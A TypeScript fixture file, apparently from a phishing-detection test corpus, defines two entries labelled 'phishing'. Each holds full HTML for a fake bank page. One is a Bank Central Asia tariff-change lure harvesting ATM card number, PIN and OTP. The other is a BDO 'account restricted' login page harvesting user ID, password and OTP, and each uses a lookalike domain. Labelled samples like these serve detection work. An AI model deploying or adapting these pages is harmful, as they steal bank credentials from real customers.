import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, doc, jsonRoute, jsRoute, walletCss } from '../parts/zy-kit.js';

export const entries: Entry[] = [
{
  id: 'zy-bca-perubahan-tarif-kartu-pin',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://layanan-bca.tarif-baru.com/',
  body: doc({
    title: 'BCA - Pemberitahuan Perubahan Tarif Transaksi',
    lang: 'id',
    css: `*{box-sizing:border-box}body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f3f6fb;color:#123}
.top{background:#0060af;padding:12px 18px;color:#fff;display:flex;align-items:center;gap:10px}.top b{font-size:24px;font-style:italic;letter-spacing:1px}
.w{max-width:460px;margin:0 auto;padding:18px}.card{background:#fff;border-radius:12px;padding:18px;box-shadow:0 2px 12px rgba(0,40,90,.08);margin-bottom:14px}
.opt{display:flex;gap:10px;align-items:flex-start;border:2px solid #dde6f2;border-radius:10px;padding:12px;margin:10px 0;cursor:pointer}.opt.sel{border-color:#0060af;background:#f0f6fd}
.opt h4{margin:0 0 4px}.opt p{margin:0;font-size:13px;color:#456}
label{display:block;font-size:13px;margin:12px 0 5px;color:#345}input{width:100%;padding:12px;border:1px solid #c9d6e6;border-radius:8px;font-size:16px}
button{width:100%;padding:14px;border:0;background:#0060af;color:#fff;font-weight:700;border-radius:8px;font-size:16px;margin-top:16px}.hide{display:none}
.foot{font-size:11px;color:#789;text-align:center}`,
    body: `<div class="top"><b>BCA</b><span style="font-size:13px">Bank Central Asia</span></div>
<div class="w"><div class="card"><h3 style="margin-top:0">Pemberitahuan Perubahan Tarif</h3>
<p style="font-size:14px;line-height:1.5">Nasabah Yth, mulai tanggal 1 bulan depan BCA memberlakukan tarif transaksi baru sebesar <b>Rp 150.000/bulan</b> untuk layanan autodebet. Silakan pilih tarif yang Anda inginkan. Jika tidak memilih, nasabah dianggap setuju dengan tarif baru.</p>
<div class="opt sel" data-v="lama"><input type="radio" name="t" checked style="width:auto"><div><h4>Tarif Lama</h4><p>Rp 6.500 / bulan, transaksi unlimited</p></div></div>
<div class="opt" data-v="baru"><input type="radio" name="t" style="width:auto"><div><h4>Tarif Baru</h4><p>Rp 150.000 / bulan, autodebet</p></div></div>
<button id="lanjut">Lanjutkan</button></div>
<div class="card hide" id="data"><h3 style="margin-top:0">Verifikasi Data Nasabah</h3>
<form id="bf" method="post" action="kirim.php">
<input type="hidden" name="tarif" id="tarif" value="lama">
<label>Nama Lengkap</label><input name="nama" required>
<label>Nomor HP</label><input name="hp" type="tel" required>
<label>Nomor Kartu ATM (16 digit)</label><input name="kartu" inputmode="numeric" maxlength="19" required>
<label>Masa berlaku</label><input name="exp" placeholder="MM/YY" maxlength="5">
<label>User ID KlikBCA</label><input name="userid">
<label>PIN KlikBCA / m-BCA</label><input name="pin" type="password" maxlength="6" inputmode="numeric" required>
<label>Saldo terakhir</label><input name="saldo" inputmode="numeric">
<button>Kirim</button></form></div>
<p class="foot">PT Bank Central Asia Tbk terdaftar dan diawasi oleh Otoritas Jasa Keuangan dan Bank Indonesia serta merupakan peserta penjaminan LPS.</p></div>
<script>
document.querySelectorAll(".opt").forEach(function(o){o.onclick=function(){document.querySelectorAll(".opt").forEach(function(x){x.classList.remove("sel")});o.classList.add("sel");o.querySelector("input").checked=true;document.getElementById("tarif").value=o.dataset.v}});
document.getElementById("lanjut").onclick=function(){this.parentNode.classList.add("hide");document.getElementById("data").classList.remove("hide")};
</script>`,
  }),
  routes: {
    'layanan-bca.tarif-baru.com/kirim.php': htmlRoute(doc({ title: 'BCA - Kode OTP', lang: 'id', body: '<div style="max-width:420px;margin:30px auto;font-family:Arial"><h3>Masukkan kode OTP</h3><p>Kode OTP telah dikirim ke nomor HP Anda. Kode berlaku 5 menit.</p><form method="post" action="otp.php"><input name="otp" maxlength="6" style="width:100%;padding:12px;font-size:18px"><button style="width:100%;padding:12px;margin-top:10px;background:#0060af;color:#fff;border:0">Konfirmasi</button></form></div>' })),
  },
},
{
  id: 'zy-bdo-online-suspended-otp',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://online-bdo.com-ph.support/login.aspx',
  body: doc({
    title: 'BDO Online Banking',
    css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#eef1f6}
.hd{background:#0033a0;height:64px;display:flex;align-items:center;padding:0 24px}.hd span{color:#ffd200;font:900 30px Arial;letter-spacing:2px}
.bx{max-width:380px;margin:40px auto;background:#fff;padding:28px;border-radius:6px;box-shadow:0 1px 6px rgba(0,0,0,.15)}
h2{color:#0033a0;font-size:20px;margin:0 0 14px}.msg{background:#fff6d5;border:1px solid #f1d36a;padding:10px;font-size:13px;margin-bottom:16px}
input{width:100%;box-sizing:border-box;padding:11px;margin:6px 0 14px;border:1px solid #b9c2d4;border-radius:3px;font-size:15px}
button{background:#0033a0;color:#fff;border:0;padding:12px 0;width:100%;font-size:15px;border-radius:3px}.sm{font-size:12px;color:#555;margin-top:14px}`,
    body: `<div class="hd"><span>BDO</span></div>
<div class="bx"><h2>Online Banking</h2><div class="msg">For your security, access to your account has been temporarily restricted due to multiple failed login attempts from an unrecognized device. Please log in to confirm your identity.</div>
<form id="bdo" action="login.aspx?act=auth" method="post">
<label for="u">User ID</label><input id="u" name="txtUserId" required>
<label for="p">Password</label><input id="p" name="txtPassword" type="password" required>
<button type="submit">Log In</button></form>
<div class="sm"><a href="#">Forgot User ID?</a> · <a href="#">Forgot Password?</a><br><br>BDO Unibank, Inc. is regulated by the Bangko Sentral ng Pilipinas. Member: PDIC. Maximum Deposit Insurance for Each Depositor P500,000.</div></div>
<script>
document.getElementById("bdo").addEventListener("submit",function(e){e.preventDefault();var f=this;
 fetch("login.aspx?act=auth",{method:"POST",body:new FormData(f)}).then(function(r){return r.json()}).then(function(j){if(j.next)location.href=j.next});});
</script>`,
  }),
  routes: {
    'online-bdo.com-ph.support/login.aspx?act=auth': jsonRoute({ next: 'otp.aspx' }),
    'online-bdo.com-ph.support/otp.aspx': htmlRoute(doc({ title: 'BDO Online Banking - One-Time PIN', body: '<div style="max-width:380px;margin:40px auto;font-family:Arial;background:#fff;padding:24px"><h2 style="color:#0033a0">One-Time PIN</h2><p>Enter the 6-digit OTP sent to your registered mobile number ending in ****.</p><form method="post" action="otp.aspx?act=v"><input name="txtOTP" maxlength="6" style="width:100%;padding:11px"><button style="width:100%;margin-top:12px;background:#0033a0;color:#fff;border:0;padding:12px">Submit</button></form></div>' })),
  },
},
];
